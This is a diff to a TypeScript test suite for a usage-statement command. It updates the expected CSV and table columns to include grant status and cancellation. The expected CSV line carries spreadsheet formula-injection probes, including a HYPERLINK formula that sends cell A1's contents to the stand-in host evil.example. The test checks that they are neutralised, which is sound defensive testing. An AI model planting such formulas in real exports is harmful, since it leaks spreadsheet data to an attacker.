@@ -64,8 +64,12 @@ describe.each(backends())('mds usage on $name', (backend) => {
     });
     expect(csv.stdout).toBe(api.body);
 
+    expect(line.grant).toMatchObject({ id: grantId, status: 'active', cancelledAt: null });
+
     const table = await mds(['usage', 'statement'], { db: h.db.url });
-    expect(table.stdout).toMatch(/^ACCOUNT\s+ACCOUNT EXTERNAL ID\s+GRANT/);
+    expect(table.stdout).toMatch(
+      /^ACCOUNT\s+ACCOUNT EXTERNAL ID\s+GRANT\s+PLAN\s+PROVIDER\s+GRANT EXTERNAL ID\s+STATUS\s+CANCELLED\s+USED/,
+    );
     expect(table.stdout).toContain(grantId);
   });
 
@@ -90,7 +94,7 @@ describe.each(backends())('mds usage on $name', (backend) => {
     expect(api.statusCode, api.body).toBe(200);
     const line = api.body.split('\r\n').find((l) => l.includes(grant.id));
     expect(line).toBe(
-      `${account.id},"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",${grant.id},'-1+2,'@SUM(A1:A9),'=1+1,0,1000`,
+      `${account.id},"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",${grant.id},'-1+2,'@SUM(A1:A9),'=1+1,active,,0,1000`,
     );
     const csv = await mds(['usage', 'statement', '--month', month, '--csv'], { db: h.db.url });
     expect(csv.status, csv.stderr).toBe(0);
